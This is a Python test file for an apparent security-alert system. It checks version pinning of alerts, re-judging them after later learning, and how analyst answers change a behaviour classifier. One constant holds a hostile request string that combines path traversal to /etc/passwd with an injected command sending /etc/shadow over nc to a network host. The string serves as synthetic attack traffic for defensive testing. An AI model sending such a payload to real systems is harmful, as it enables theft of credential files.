"""An alert is judged again by the versions that it pins, and says again what it said, whatever was learned since."""

import shutil
from dataclasses import replace
from pathlib import Path

import made_days as days
import msgspec
import pytest

from lichen import assemble
from lichen.assemble import Platform
from lichen.config import Settings
from lichen.core.alert import Alert
from lichen.core.change import without_mark
from lichen.core.entity import Subject
from lichen.run.desk import StoreDesk
from lichen.run.hearing import Hearing
from lichen.run.scan import learn, read_all

ODD_HOST, TWIN, CLASSIFIER = "shop-3", "shop-5", "classifier.behaviour"
QUERY = "file=../../../../etc/passwd;cat+/etc/shadow|nc+10.0.0.9+4444"
HOUR, FIT, THEN = days.HOUR, 40, 12


def settings_of(folder: Path) -> Settings:
    inventory = days.write_inventory(folder / "inventory.yml")
    return Settings(store=folder / "store", batch_bytes=16_384, inventory=inventory)


def quiet(done: int, total: int) -> None:
    """No bar."""


@pytest.fixture(scope="module")
def judged(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store that learned 40 hours, and then judged 12 in which two shops are asked for what nobody asks for."""
    folder = tmp_path_factory.mktemp("judged")
    days.write_days(folder / "fit.log", FIT)
    begin = days.BEGIN + FIT * HOUR
    days.write_days(folder / "now.log", THEN, begin, seed=2)
    odd = [
        days.request(begin + hour * HOUR + at, host, "ada", days.ODD, QUERY)
        for hour, host in ((3, ODD_HOST), (7, TWIN))
        for at in range(60_000_000, 60_000_000 + 40 * 1_000_000, 1_000_000)
    ]
    (folder / "odd.log").write_text("\n".join(odd) + "\n", encoding="utf-8")
    learn(settings_of(folder), [folder / "fit.log"], "benign", quiet)
    platform = assemble.open_platform(settings_of(folder))
    with platform.store:
        read_all(platform, [folder / "now.log", folder / "odd.log"], [], quiet)
    return folder


@pytest.fixture
def folder(judged: Path, tmp_path: Path) -> Path:
    shutil.copytree(judged, tmp_path / "own")
    return tmp_path / "own"


def opened(folder: Path) -> Platform:
    return assemble.open_platform(settings_of(folder))


def alert_of(platform: Platform, name: str) -> Alert:
    return next(a for a in platform.store.records.alerts() if a.subject == Subject("workload", name))


def test_an_alert_pins_the_version_of_everybody_who_judged_it(folder: Path) -> None:
    platform = opened(folder)
    with platform.store:
        alert = alert_of(platform, ODD_HOST)
        spoke = {line.detector for belief in alert.beliefs for line in belief.ledger if line.detector}
        assert {CLASSIFIER, "profile.route"} <= spoke
        assert alert.versions.keys() == {"decide", *spoke}
        kept = platform.store.models
        models = [name for name in alert.versions if not name.startswith(("rule:", "indicator:"))]
        assert all(kept.find(name, without_mark(alert.versions[name])) for name in models)


def test_the_ledger_judged_again_is_the_stored_one_after_later_learning_too(folder: Path) -> None:
    platform = opened(folder)
    with platform.store:
        alerts = platform.store.records.alerts()
        assert len(alerts) >= 2
        assert all(Hearing(platform).credit(one, "unsure", "alert", {}).differences == () for one in alerts)
    learn(settings_of(folder), [folder / "odd.log", folder / "now.log"], "benign", quiet)
    learned = opened(folder)
    with learned.store:
        assert learned.models.profiles["profile.route"].version != platform.models.profiles["profile.route"].version
        for alert in alerts:
            assert Hearing(learned).credit(alert, "unsure", "alert", {}).differences == ()
        told = Hearing(learned).credit(replace_versions(alerts[0]), "unsure", "alert", {}).differences
        assert any("stored" in line for line in told)  # the models in force say something else


def replace_versions(alert: Alert, **versions: str) -> Alert:
    return msgspec.structs.replace(alert, versions=versions)


def test_a_version_that_is_not_kept_any_more_is_named_and_the_one_in_force_asked(folder: Path) -> None:
    learn(settings_of(folder), [folder / "odd.log", folder / "now.log"], "benign", quiet)
    platform = opened(folder)
    with platform.store:
        alert = alert_of(platform, ODD_HOST)
        pinned = without_mark(alert.versions["profile.route"])
        gone = platform.store.models.find("profile.route", pinned)
        assert gone
        kept = platform.store.models.sweep(platform.store.records.pinned_versions(), newest=1)
        assert gone not in {card.version for card in kept}  # an alert refers to it
        platform.store.models.sweep({}, newest=1)
        notes = Hearing(platform).credit(alert, "unsure", "alert", {}).differences
        assert any(note.startswith(f"version {pinned} of profile.route is not kept any more") for note in notes)


def test_the_classifier_that_was_calibrated_here_stays_whatever_ships_later(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    calibrated = opened(folder)
    with calibrated.store:
        version = calibrated.models.classifier.version
        model = calibrated.models.classifier.model
    other = folder / "shipped"
    replace(model, intercept=model.intercept + 1.0).save(other / CLASSIFIER)
    content = assemble.catalogue.content
    monkeypatch.setattr(assemble.catalogue, "content", lambda name: other if name == "models" else content(name))
    again = opened(folder)
    with again.store:
        assert again.models.classifier.version == version


@pytest.mark.parametrize("scope", ["subject", "pattern"])
def test_a_benign_answer_makes_the_classifier_quiet_there_as_foretold_and_undoing_restores_it(
    folder: Path, scope: str
) -> None:
    platform = opened(folder)
    with platform.store:
        desk, alert, twin = StoreDesk(platform), alert_of(platform, ODD_HOST), alert_of(platform, TWIN)
        before = weights(platform, alert), weights(platform, twin)
        assert min(before) > 1.0
        pattern = {"http_request.url.path": days.ODD} if scope == "pattern" else {}
        foretold = desk.consequence(alert.uid, "benign-expected", scope, pattern)
        (effect,) = [one for one in foretold.effects if one.detector == CLASSIFIER]
        _, change = desk.answer(alert.uid, "benign-expected", scope, "ada", pattern)
        assert change is not None
        after = weights(platform, alert), weights(platform, twin)
        assert effect.score_before_nats == before[0]
        assert effect.score_after_nats == after[0] < before[0] / 2
        assert after[1] == before[1] if scope == "subject" else after[1] < before[1] / 2
        assert "looking like an attack counts for nothing" in change.summary
        assert change.summary == foretold.summary
        desk.undo(change.id)
        assert (weights(platform, alert), weights(platform, twin)) == before


def weights(platform: Platform, alert: Alert) -> float:
    """What the classifier weighs in an alert's windows under the models and answers in force."""
    hearing = Hearing(platform)
    bench = hearing.bench(alert.subject, {}, None)
    again = hearing.court().again(alert.subject, [belief.window for belief in alert.beliefs], bench)
    lines = [line for belief in again.beliefs for line in belief.ledger if line.detector == CLASSIFIER]
    return max(line.weight_nats for line in lines)


def test_a_malicious_answer_weakens_no_classifier(folder: Path) -> None:
    platform = opened(folder)
    with platform.store:
        desk, alert = StoreDesk(platform), alert_of(platform, ODD_HOST)
        credited = Hearing(platform).credit(alert, "malicious", "alert", {})
        assert CLASSIFIER in {share.detector for share in credited.shares}
        desk.answer(alert.uid, "malicious", "alert", "ada", {})
        assert not [o for o in platform.store.answers.overlays() if o.detector == CLASSIFIER]


def test_the_quicker_way_foretells_what_judging_everybody_again_does(folder: Path) -> None:
    platform = opened(folder)
    with platform.store:
        alert = alert_of(platform, ODD_HOST)
        for answer, scope, pattern in (
            ("benign-expected", "subject", {}),
            ("detector-wrong", "alert", {}),
            ("benign-expected", "pattern", {"http_request.url.path": days.ODD}),
        ):
            quick = StoreDesk(platform).consequence(alert.uid, answer, scope, pattern)
            slow = StoreDesk(platform)
            court = slow.hearing.court
            slow.hearing.court = lambda court=court: replace(court(), stored=None, over=None)  # type: ignore[method-assign]
            assert slow.consequence(alert.uid, answer, scope, pattern) == quick
            assert quick.effects


def test_what_was_shown_is_not_worked_out_again_when_it_is_given_unless_something_changed(folder: Path) -> None:
    platform = opened(folder)
    with platform.store:
        desk, alert, twin = StoreDesk(platform), alert_of(platform, ODD_HOST), alert_of(platform, TWIN)
        shown = desk.consequence(alert.uid, "benign-expected", "subject", {})
        assert desk.consequence(alert.uid, "benign-expected", "subject", {}) is shown
        desk.answer(twin.uid, "benign-expected", "subject", "ada", {})
        assert desk.consequence(alert.uid, "benign-expected", "subject", {}) is not shown
